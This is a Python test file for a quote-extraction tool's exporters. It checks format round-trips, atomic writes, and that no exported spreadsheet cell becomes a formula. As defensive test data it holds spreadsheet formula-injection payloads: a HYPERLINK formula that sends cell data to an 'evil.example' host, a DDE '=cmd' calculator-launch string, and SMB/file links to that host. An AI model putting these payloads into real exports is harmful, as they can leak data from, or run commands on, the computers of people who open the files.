"""Writing claims: every format round-trips, no cell is ever a formula, writes are atomic."""
import json
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quotes import read_claims
from quotes.pipeline import write_outputs
from quotes.types import RunInfo
from quotes.export.rows import OUTPUT_COLUMNS
from quotes.export.safe import EXCEL_CELL_LIMIT, FORMULA_STARTS, atomic_path, cell_text, csv_escaped, csv_unescaped
from quotes.types import Article, ArticleResult, Claim

RUN = RunInfo("0.1.0", "test annotator", "test models", "quotes extract x", "2026-01-01T00:00:00+00:00")
TEXT = "Elkhan Velizade said that talks failed. =HYPERLINK(\"http://evil\") he said."


def claim(article, n, speaker="Elkhan Velizade", text="that talks failed", **kw):
    fields = dict(article=article, claim_id=f"{article}:{n}", speaker=speaker, speaker_kind="person",
                  role="political analyst", organization=None, source=speaker, cue="said", cue_lemma="say",
                  recipient=None, quote_type="indirect", claim=text, sentence=TEXT, content_spans=((21, 38),),
                  cue_spans=((16, 20),), source_span=(0, 15), confidence=0.85, rule="verb:speech")
    fields.update(kw)
    return Claim(**fields)


def results():
    a1 = Article("a1", TEXT, "/tmp/a1.txt", {"title": "+Title", "date": "2022-05-28"})
    a2 = Article("a2", "x", None, {"url": "https://example.org/a2"})
    return [ArticleResult(a1, "ok", (claim("a1", 1), claim("a1", 2, text="=HYPERLINK(\"http://evil\")",
                                                                speaker="-Dash", role="@SUM(A1)"))),
            ArticleResult(a2, "ok", (claim("a2", 1, text="+1 and \x07bell"),)),
            ArticleResult(Article("bad", "", "/tmp/bad.txt"), "failed", reason="=cmd|' /C calc'!A0")]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".jsonl", ".parquet"])
def test_round_trip(tmp_path, suffix):
    out = tmp_path / f"claims{suffix}"
    summary = write_outputs(results(), out, run_info=RUN)
    assert summary.claims == 3 and summary.by_status == {"ok": 2, "failed": 1}
    df = read_claims(out)
    assert list(df.columns) == list(OUTPUT_COLUMNS)
    assert len(df) == 3
    assert df.loc[0, "content_spans"] == [[21, 38]] and df.loc[0, "source_span"] == [0, 15]
    assert df["confidence"].dtype == float
    assert str(df["speaker"].dtype) == "category"
    assert df.loc[1, "claim"] == "=HYPERLINK(\"http://evil\")"
    assert df.loc[2, "link"] == "https://example.org/a2"


def test_pandas_reads_the_claims_sheet_back(tmp_path):
    out = tmp_path / "claims.xlsx"
    write_outputs(results(), out, run_info=RUN)
    df = pd.read_excel(out, sheet_name="Claims")
    assert list(df.columns) == list(OUTPUT_COLUMNS)
    assert df["claim_id"].tolist() == ["a1:1", "a1:2", "a2:1"]


def test_no_cell_is_a_formula_in_any_sheet(tmp_path):
    out = tmp_path / "claims.xlsx"
    write_outputs(results(), out, run_info=RUN)
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_hostile_speakers_and_ids_are_text_in_every_sheet(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "#N/A", "@SUM(A1)", "\t=1+1"]
    res = [ArticleResult(Article(h, TEXT, f"/tmp/{k}.txt", {"title": h, "date": h, "author": h}), "ok",
                         (claim(h, 1, speaker=f"{h} Eve", role=h, text=h),)) for k, h in enumerate(hostile)]
    out = tmp_path / "claims.xlsx"
    write_outputs(res, out, run_info=RunInfo("=1", "=cmd|' /C calc'!A0", "+m", "-c", "@t"))
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s", "n"}
    texts = {ws.title: {c.value for row in ws.iter_rows() for c in row} for ws in wb.worksheets}
    assert {f"{h} Eve" for h in hostile} <= texts["Top speakers"] & texts["Speakers"] & texts["Claims"]
    assert set(hostile) <= texts["Articles"] and "=cmd|' /C calc'!A0" in texts["About"]
    assert 4 in texts["About"]  # the article count stays a number


@pytest.mark.parametrize("link, target", [
    ("https://example.org/a", "https://example.org/a"), ("/tmp/a.txt", "file:///tmp/a.txt"),
    ("file://evil.example/share/a", None), ("smb://evil.example/a", None), ('=HYPERLINK("http://x")', None),
])
def test_only_web_and_file_paths_are_clickable(tmp_path, link, target):
    res = [ArticleResult(Article("a", TEXT, link), "ok", (claim("a", 1),))]
    write_outputs(res, tmp_path / "c.xlsx", run_info=RUN)
    cell = openpyxl.load_workbook(tmp_path / "c.xlsx")["Claims"].cell(2, OUTPUT_COLUMNS.index("link") + 1)
    assert cell.value == link and (cell.hyperlink.target if cell.hyperlink else None) == target


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8))
def test_csv_escape_round_trips_and_leaves_no_formula_start(text):
    escaped = csv_escaped(text)
    assert csv_unescaped(escaped) == text
    assert not escaped.startswith(tuple(FORMULA_STARTS))
    assert escaped == text or escaped == "'" + text


def test_workbook_layout(tmp_path):
    out = tmp_path / "claims.xlsx"
    write_outputs(results(), out, run_info=RUN)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Claims", "Speakers", "Articles", "About", "Top speakers"]
    claims = wb["Claims"]
    assert claims.freeze_panes == "B2" and "Claims" in claims.tables
    col = {c: OUTPUT_COLUMNS.index(c) + 1 for c in OUTPUT_COLUMNS}
    links = [claims.cell(r, col["link"]).hyperlink.target for r in (2, 3, 4)]  # each row links its own article
    assert links == ["file:///tmp/a1.txt", "file:///tmp/a1.txt", "https://example.org/a2"]
    assert all(claims.cell(r, col["claim"]).alignment.wrap_text for r in (2, 3, 4))
    assert claims.cell(3, col["claim"]).value == "=HYPERLINK(\"http://evil\")"
    articles = pd.read_excel(out, sheet_name="Articles")
    assert articles.set_index("article").loc["bad", "status"] == "failed"
    assert len(wb["Top speakers"]._charts) == 1
    about = dict(pd.read_excel(out, sheet_name="About", header=None).values[:5])
    assert about["annotator"] == "test annotator"


def test_control_characters_and_long_cells(tmp_path):
    long = "word " * 9000
    res = [ArticleResult(Article("a", TEXT), "ok", (claim("a", 1, text=long),))]
    write_outputs(res, tmp_path / "c.xlsx", run_info=RUN)
    write_outputs(res, tmp_path / "c.jsonl", run_info=RUN)
    cell = openpyxl.load_workbook(tmp_path / "c.xlsx")["Claims"].cell(2, OUTPUT_COLUMNS.index("claim") + 1).value
    assert len(cell) <= EXCEL_CELL_LIMIT and "truncated" in cell
    assert json.loads((tmp_path / "c.jsonl").read_text().splitlines()[0])["claim"] == long
    assert cell_text("a\x00b\x1bc") == "a\ufffdb\ufffdc"


def test_atomic_write_keeps_the_old_file_on_a_crash(tmp_path):
    out = tmp_path / "claims.jsonl"
    write_outputs(results(), out, run_info=RUN)
    before = out.read_bytes()

    def crashing():
        yield results()[0]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_outputs(crashing(), out, run_info=RUN)
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.jsonl"]


def test_atomic_path_removes_its_temporary_file(tmp_path):
    with pytest.raises(RuntimeError):
        with atomic_path(tmp_path / "x.txt") as tmp:
            tmp.write_text("half")
            raise RuntimeError
    assert list(tmp_path.iterdir()) == []


def test_too_many_rows_is_a_clear_error(tmp_path, monkeypatch):
    import quotes.export.xlsx as xlsx

    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 3)
    with pytest.raises(xlsx.TooManyRowsError, match="jsonl"):
        write_outputs(results(), tmp_path / "c.xlsx", run_info=RUN)
    assert not (tmp_path / "c.xlsx").exists()


def test_a_failed_workbook_leaves_no_temporary_sheet(tmp_path, monkeypatch):
    import gc
    import sys

    import quotes.export.xlsx as xlsx
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 3)
    complaints = []
    monkeypatch.setattr(sys, "unraisablehook", complaints.append)
    before = {f for f in ALL_TEMP_FILES if Path(f).exists()}
    with pytest.raises(xlsx.TooManyRowsError):
        write_outputs(results(), tmp_path / "c.xlsx", run_info=RUN)
    gc.collect()
    assert {f for f in ALL_TEMP_FILES if Path(f).exists()} == before  # the sheet's stream file is gone
    assert complaints == []  # and nothing half-closed complains when collected


def test_same_results_same_bytes(tmp_path):
    for suffix in (".jsonl", ".csv"):
        write_outputs(results(), tmp_path / f"1{suffix}", run_info=RUN)
        write_outputs(results(), tmp_path / f"2{suffix}", run_info=RUN)
        assert (tmp_path / f"1{suffix}").read_bytes() == (tmp_path / f"2{suffix}").read_bytes()


def test_unknown_format_is_refused(tmp_path):
    with pytest.raises(ValueError, match="xlsx"):
        write_outputs(results(), tmp_path / "c.doc", run_info=RUN)


def test_the_articles_rows_read_without_claims_are_the_rows_of_the_whole_results(tmp_path):
    """The Articles sheet reads the spool without building its claims: the same rows, claims counted."""
    from quotes.export import spool
    from quotes.export.rows import article_row

    path = tmp_path / "results.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        for result in results():
            spool.append(fh, result)
    light = [article_row(r, n) for r, n in spool.read_articles(path)]
    assert light == [article_row(r) for r in spool.read_spool(path)] == [article_row(r) for r in results()]
    assert [row["claims"] for row in light] == [2, 1, 0]
    assert all(r.claims == () for r, _ in spool.read_articles(path))
